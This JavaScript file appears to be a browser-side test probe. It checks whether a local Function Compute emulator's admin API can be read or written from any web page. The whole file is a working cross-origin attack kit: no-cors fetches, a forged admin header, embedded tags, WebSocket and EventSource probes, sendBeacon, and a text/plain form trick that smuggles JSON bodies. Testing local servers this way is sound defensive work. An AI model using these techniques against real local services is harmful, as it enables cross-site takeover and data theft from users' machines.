// Tries, from whatever page it runs in, to read and write the local Function Compute at `base`. Calls back with what could be read:
// [{how, path, body}].
const [base, reads, writes, called, done] = arguments;
const HEADERS = { "X-Fc-Local-Admin": "1", "Content-Type": "application/json" };
const found = [];
const soon = () => new Promise((resolve) => setTimeout(resolve, 1500));
const take = (how, path) => (body) => body && found.push({ how, path, body });
const nothing = () => {};

async function fetched(how, path, options) {
  const answer = await fetch(base + path, options);
  take(how, path)(await answer.text());
}

function asked(method, path, body) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onloadend = () => resolve(take("xhr", path)(request.responseText));
    request.open(method, base + path);
    request.send(body);
  });
}

function embedded(tag, attribute, path) {
  return new Promise((resolve) => {
    const element = document.createElement(tag);
    if (tag === "link") element.rel = "stylesheet";
    element.onload = () => {
      let text = "";
      try { text = element.contentDocument ? element.contentDocument.documentElement.outerHTML : ""; } catch { /* another origin's */ }
      if (tag === "img" || tag === "script" || tag === "link") text = "loaded";
      resolve(take(tag, path)(text));
    };
    element.onerror = resolve;
    element[attribute] = base + path;
    document.body.append(element);
    soon().then(resolve);
  });
}

function streamed(path) {
  return new Promise((resolve) => {
    const socket = new WebSocket(base.replace("http", "ws") + path);
    socket.onopen = () => resolve(take("websocket", path)("opened"));
    socket.onerror = resolve;
  });
}

function listened(path) {
  return new Promise((resolve) => {
    const source = new EventSource(base + path);
    source.onopen = () => resolve(take("events", path)("opened"));
    source.onerror = () => resolve(source.close());
  });
}

function posted(path, text) {
  const frame = Object.assign(document.createElement("iframe"), { name: `frame${Math.random()}` });
  const form = Object.assign(document.createElement("form"), { action: base + path, method: "post", enctype: "text/plain", target: frame.name });
  const field = Object.assign(document.createElement("input"), { name: text.slice(0, -1) + ', "x": "', value: '"}' });
  form.append(field);
  document.body.append(frame, form);
  form.submit();
}

async function attack() {
  const tries = [];
  for (const path of reads) {
    tries.push(fetched("fetch", path), fetched("no-cors", path, { mode: "no-cors" }));
    tries.push(fetched("with header", path, { headers: HEADERS }), fetched("head", path, { method: "HEAD" }));
    tries.push(asked("GET", path), streamed(path), listened(path));
    for (const [tag, attribute] of [["img", "src"], ["script", "src"], ["link", "href"], ["iframe", "src"], ["object", "data"]])
      tries.push(embedded(tag, attribute, path));
  }
  for (const [method, path, value] of writes) {
    const body = JSON.stringify(value);
    tries.push(fetched("no-cors", path, { method: "POST", mode: "no-cors", body }));
    tries.push(fetched("simple", path, { method: "POST", body }));
    tries.push(fetched("with header", path, { method, headers: HEADERS, body }));
    tries.push(asked("POST", path, body));
    navigator.sendBeacon(base + path, body);
    posted(path, body);
  }
  await Promise.all(tries.map((one) => one.catch(nothing)));
  await soon(); // for forms and beacons
  await fetched("called", called).catch(nothing);
}

attack().then(() => done(found), (error) => done([{ how: "failed", path: "", body: String(error) }]));
